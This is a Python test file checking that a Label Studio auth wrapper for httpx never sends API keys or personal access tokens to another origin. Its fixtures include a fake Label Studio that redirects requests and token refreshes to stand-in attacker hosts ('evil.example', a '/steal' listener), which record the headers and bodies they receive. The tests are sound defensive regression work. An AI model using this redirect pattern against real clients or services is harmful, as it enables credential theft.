"""Issue 17, findings 1-3: a Label Studio credential never reaches another origin (contract §5.1).

The three reproductions of the issue, through ``MockTransport``, then the same attacks over real
loopback sockets: a fake Label Studio on one port redirects to a listener on another port
(another origin) that records everything it receives, for the sync and async httpx clients and
the SDK wrapper. The assertions name what the other origin received, so a failure shows the leak.
"""

from __future__ import annotations

import asyncio
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Callable, Dict, Iterator, List, Optional, Tuple

import httpx
import pytest

import ls_auth
import ls_auth.contrib.httpx as lshttpx
from ls_auth.contrib.httpx import LabelStudioAuth
from conftest import SECRET

ISSUER = ls_auth.Issuer(SECRET)
LEGACY = ls_auth.generate_legacy_key()
LS = "https://ls.example"


def leaked(received: List[Dict[str, Any]], secrets: List[str]) -> List[str]:
    """What of ``secrets`` (or a credential header) the other origin received, for the message."""
    found = []
    for r in received:
        headers = {k.lower(): v for k, v in r["headers"].items()}
        for name in ("authorization", "x-api-key"):
            if name in headers:
                found.append(f"{r['method']} {r['url']}: {name}: {headers[name]}")
        for secret in secrets:
            if secret in r["body"]:
                found.append(f"{r['method']} {r['url']}: body {r['body']}")
    return found


def record(request: httpx.Request, into: List[Dict[str, Any]]) -> None:
    entry: Dict[str, Any] = {
        "method": request.method, "url": str(request.url), "headers": dict(request.headers),
        "body": "",
    }
    into.append(entry)
    entry["body"] = request.read().decode("utf-8", "replace")


# -- the three reproductions of the issue, MockTransport ---------------------------------------


def evil_mock(ls: Callable[[httpx.Request], httpx.Response]) -> Tuple[httpx.MockTransport, List[Dict[str, Any]]]:
    """Label Studio answers with ``ls``; every other host is the attacker, who records."""
    evil: List[Dict[str, Any]] = []

    def handler(request: httpx.Request) -> httpx.Response:
        if request.url.host == "ls.example":
            return ls(request)
        record(request, evil)
        return httpx.Response(200, json={"access": ISSUER.refresh(ISSUER.mint_pat("666"))})

    return httpx.MockTransport(handler), evil


def storage_redirect(request: httpx.Request) -> httpx.Response:
    """Label Studio's `/tasks/<id>/resolve/`: a 303 to a presigned URL on another host."""
    if request.url.path == "/api/token/refresh/":
        return httpx.Response(200, json={"access": ISSUER.refresh(json.loads(request.read())["refresh"])})
    return httpx.Response(303, headers={"Location": "https://evil.example/x?sig=abc"})


def test_finding_1_x_api_key_is_not_sent_across_a_303_without_the_guard() -> None:
    transport, evil = evil_mock(storage_redirect)
    auth = LabelStudioAuth(LEGACY, base_url=LS, api_key_header="X-Api-Key")
    with httpx.Client(transport=transport, auth=auth, follow_redirects=True) as client:
        try:
            client.get(f"{LS}/api/tasks/1/resolve/")
        except Exception as exc:  # the fix: GuardMissing; the leak had no error at all
            assert "guard" in str(exc)
    assert evil, "the redirect was followed"
    assert leaked(evil, [LEGACY]) == [], f"evil.example received: {evil}"


def test_finding_1_x_api_key_is_not_sent_across_a_303_with_the_guard() -> None:
    transport, evil = evil_mock(storage_redirect)
    seen: List[Optional[str]] = []

    def ls(request: httpx.Request) -> httpx.Response:
        seen.append(request.headers.get("X-Api-Key"))
        return storage_redirect(request)

    transport, evil = evil_mock(ls)
    with lshttpx.client(LEGACY, base_url=LS, api_key_header="X-Api-Key", transport=transport,
                        follow_redirects=True) as client:
        assert client.get("/api/tasks/1/resolve/").status_code == 200
    assert seen == [LEGACY], "Label Studio itself gets the key"
    assert [r["url"] for r in evil] == ["https://evil.example/x?sig=abc"]
    assert leaked(evil, [LEGACY]) == []


def test_finding_1_authorization_is_not_sent_outside_the_base_path_with_the_guard() -> None:
    seen: List[Optional[str]] = []

    def ls(request: httpx.Request) -> httpx.Response:
        seen.append(request.headers.get("Authorization"))
        if request.url.path.startswith("/ls/"):
            return httpx.Response(302, headers={"Location": "/other-app/x"})
        return httpx.Response(200)

    transport, evil = evil_mock(ls)
    with lshttpx.client(LEGACY, base_url=LS + "/ls", transport=transport, follow_redirects=True) as client:
        client.get("/ls/api/x")
    assert seen == [f"Token {LEGACY}", None]


def refresh_redirect(request: httpx.Request) -> httpx.Response:
    if request.url.path == "/api/token/refresh/":
        return httpx.Response(307, headers={"Location": "http://evil.example/s?token=t"})
    return httpx.Response(200)


def test_finding_2_a_307_on_the_refresh_does_not_resend_the_pat_without_the_guard() -> None:
    pat = ISSUER.mint_pat("1")
    transport, evil = evil_mock(refresh_redirect)
    auth = LabelStudioAuth(pat, base_url=LS)
    raised: Optional[Exception] = None
    with httpx.Client(transport=transport, auth=auth, follow_redirects=True) as client:
        try:
            client.get(f"{LS}/api/projects/")
        except httpx.HTTPError as exc:
            raised = exc
    assert leaked(evil, [pat]) == [], f"evil.example received: {evil}"
    assert isinstance(raised, lshttpx.RefreshRedirected)
    assert "sends the personal access token once" in str(raised)


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_finding_2_a_redirect_on_the_refresh_is_refresh_failed_with_the_guard(status: int) -> None:
    pat = ISSUER.mint_pat("1")

    def ls(request: httpx.Request) -> httpx.Response:
        return httpx.Response(status, headers={"Location": "http://evil.example/s?token=t"})

    transport, evil = evil_mock(ls)
    with lshttpx.client(pat, base_url=LS, transport=transport, follow_redirects=True) as client:
        with pytest.raises(lshttpx.RefreshFailed) as info:
            client.get("/api/projects/")
    assert evil == []
    message = str(info.value)
    assert "http://evil.example" in message and "/s" not in message.split("evil.example")[1][:2]
    assert "token=t" not in message and pat not in message
    assert info.value.response.status_code == status


def test_finding_2_a_303_on_the_refresh_followed_without_the_guard_is_refresh_failed() -> None:
    pat = ISSUER.mint_pat("1")

    def ls(request: httpx.Request) -> httpx.Response:
        return httpx.Response(303, headers={"Location": "https://evil.example/s"})

    transport, evil = evil_mock(ls)
    auth = LabelStudioAuth(pat, base_url=LS)
    with httpx.Client(transport=transport, auth=auth, follow_redirects=True) as client:
        with pytest.raises(lshttpx.RefreshFailed, match=r"redirect \(HTTP 303\) to https://evil\.example: "):
            client.get(f"{LS}/api/projects/")
    assert leaked(evil, [pat]) == []
    assert auth.cache.access_exp is None, "the attacker's access token is not taken"


def test_finding_3_no_base_url_is_refused_and_the_pat_never_goes_to_the_requests_host() -> None:
    pat = ISSUER.mint_pat("1")
    images: List[Dict[str, Any]] = []

    def handler(request: httpx.Request) -> httpx.Response:
        record(request, images)
        return httpx.Response(200)

    transport = httpx.MockTransport(handler)
    try:
        auth = LabelStudioAuth(pat)
    except ValueError as exc:
        assert "base_url" in str(exc) and "refresh" in str(exc)
        auth = LabelStudioAuth(pat, base_url=LS)
    with httpx.Client(transport=transport, auth=auth) as client:
        try:
            client.get("https://images.example/cat.png")
        except httpx.HTTPError:
            pass
    assert leaked(images, [pat]) == [], f"images.example received: {images}"
    assert [r["url"] for r in images] == ["https://images.example/cat.png"]
    for kind in (LEGACY, pat):
        with pytest.raises(ValueError, match="base_url"):
            LabelStudioAuth(kind)


def test_a_request_to_another_origin_gets_no_credential_of_any_kind() -> None:
    for key, header in ((LEGACY, "Authorization"), (LEGACY, "X-Api-Key"),
                        (ISSUER.mint_pat("1"), "Authorization")):
        transport, evil = evil_mock(storage_redirect)
        with lshttpx.client(key, base_url=LS, api_key_header=header, transport=transport) as client:  # type: ignore[arg-type]
            client.get("https://evil.example/direct")
        assert len(evil) == 1 and leaked(evil, [key]) == []


def test_bad_base_urls_are_refused_up_front() -> None:
    for base in ("https://u:p@ls.example", "ls.example", "https://ls.example/?org=1", "ftp://ls.example"):
        with pytest.raises(ls_auth.InvalidArgument, match="base URL is not usable"):
            LabelStudioAuth(LEGACY, base_url=base)


def test_install_refuses_a_client_with_another_auth() -> None:
    auth = LabelStudioAuth(LEGACY, base_url=LS)
    with pytest.raises(ValueError, match="already has an auth"):
        lshttpx.install(httpx.Client(auth=("u", "p")), auth)
    client = lshttpx.install(httpx.Client(), auth)
    lshttpx.install(client, auth)  # again: one guard, not two
    assert len(client.event_hooks["request"]) == 1


# -- real sockets: a Label Studio on one port redirects to a listener on another ----------------


class Listener:
    """Another origin: records method, path, headers and body of everything it receives."""

    def __init__(self) -> None:
        self.received: List[Dict[str, Any]] = []
        received = self.received

        class Handler(BaseHTTPRequestHandler):
            def _serve(self) -> None:
                n = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(n).decode("utf-8", "replace") if n else ""
                received.append({
                    "method": self.command, "url": self.path, "headers": dict(self.headers.items()),
                    "body": body,
                })
                data = b'{"access": "not-a-token", "results": [], "count": 0}'
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            do_GET = do_POST = do_PUT = _serve

            def log_message(self, *args: object) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


class RedirectingLabelStudio:
    """Refreshes PATs (or redirects the refresh), authenticates, and answers every other path
    with a redirect to the listener, as Label Studio does for storage downloads."""

    def __init__(self, listener: Listener, *, refresh_status: int = 200, status: int = 303) -> None:
        self.credentials: List[str] = []
        this = self

        class Handler(BaseHTTPRequestHandler):
            def _serve(self) -> None:
                n = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(n) if n else b""
                if self.path == "/api/token/refresh/":
                    if refresh_status != 200:
                        self._answer(refresh_status, b"", f"{listener.url}/steal?x=1")
                        return
                    access = ISSUER.refresh(json.loads(body)["refresh"])
                    self._answer(200, json.dumps({"access": access}).encode())
                    return
                this.credentials.append(
                    self.headers.get("Authorization") or self.headers.get("X-Api-Key") or ""
                )
                self._answer(status, b"", f"{listener.url}/presigned/object?sig=s")

            def _answer(self, code: int, data: bytes, location: Optional[str] = None) -> None:
                self.send_response(code)
                if location:
                    self.send_header("Location", location)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            do_GET = do_POST = _serve

            def log_message(self, *args: object) -> None:
                pass

        # `localhost` here and 127.0.0.1 for the listener: two origins on one machine.
        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://localhost:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture()
def listener() -> Iterator[Listener]:
    lst = Listener()
    yield lst
    lst.close()


SCENARIOS = [
    # (name, key, header, refresh_status, status)
    ("legacy-x-api-key-303", "legacy", "X-Api-Key", 200, 303),
    ("legacy-x-api-key-307", "legacy", "X-Api-Key", 200, 307),
    ("legacy-authorization-302", "legacy", "Authorization", 200, 302),
    ("pat-authorization-307", "pat", "Authorization", 200, 307),
    ("pat-refresh-307", "pat", "Authorization", 307, 303),
    ("pat-refresh-308", "pat", "Authorization", 308, 303),
    ("pat-x-api-key-refresh-307", "pat", "X-Api-Key", 307, 303),
]


def _key(kind: str) -> str:
    return LEGACY if kind == "legacy" else ISSUER.mint_pat("1")


def _run_sync(make: Callable[[str], Any], ls: RedirectingLabelStudio) -> None:
    try:
        make(ls.url)
    except Exception:  # refused or not: what matters is what the listener got
        pass


@pytest.mark.parametrize("name,kind,header,refresh_status,status", SCENARIOS, ids=[s[0] for s in SCENARIOS])
@pytest.mark.parametrize("flavour", ["sync", "async", "sdk", "async-sdk", "plain-httpx"])
def test_real_sockets_the_other_origin_receives_no_credential(
    listener: Listener, flavour: str, name: str, kind: str, header: str, refresh_status: int, status: int
) -> None:
    key = _key(kind)
    ls = RedirectingLabelStudio(listener, refresh_status=refresh_status, status=status)
    try:
        if flavour == "sync":
            with lshttpx.client(key, base_url=ls.url, api_key_header=header,  # type: ignore[arg-type]
                                follow_redirects=True) as c:
                _run_sync(lambda _: c.get("/api/tasks/1/resolve/"), ls)
        elif flavour == "plain-httpx":
            auth = LabelStudioAuth(key, base_url=ls.url, api_key_header=header)  # type: ignore[arg-type]
            with httpx.Client(auth=auth, follow_redirects=True) as c:
                _run_sync(lambda base: c.get(base + "/api/tasks/1/resolve/"), ls)
        elif flavour == "async":
            async def go() -> None:
                async with lshttpx.async_client(key, base_url=ls.url, api_key_header=header,  # type: ignore[arg-type]
                                                follow_redirects=True) as c:
                    try:
                        await c.get("/api/tasks/1/resolve/")
                    except Exception:
                        pass
            asyncio.run(go())
        elif flavour == "sdk":
            from ls_auth.contrib.sdk import LabelStudio

            sdk = LabelStudio(base_url=ls.url, api_key=key, api_key_header=header)  # type: ignore[arg-type]
            _run_sync(lambda _: sdk.projects.get(id=1), ls)
        else:
            from ls_auth.contrib.sdk import AsyncLabelStudio

            async def go_sdk() -> None:
                sdk = AsyncLabelStudio(base_url=ls.url, api_key=key, api_key_header=header)  # type: ignore[arg-type]
                try:
                    await sdk.projects.get(id=1)
                except Exception:
                    pass
            asyncio.run(go_sdk())
    finally:
        ls.close()
    secrets = [key]
    # Shown by `pytest -rA`: what the other origin received (the issue's closing note).
    print("other origin received:", [
        (r["method"], r["url"], sorted(k for k in r["headers"]), len(r["body"]))
        for r in listener.received
    ])
    assert leaked(listener.received, secrets) == [], f"the other origin received: {listener.received}"
    if refresh_status == 200 and (flavour != "plain-httpx" or header == "Authorization"):
        assert ls.credentials and ls.credentials[0], "Label Studio itself got the credential"
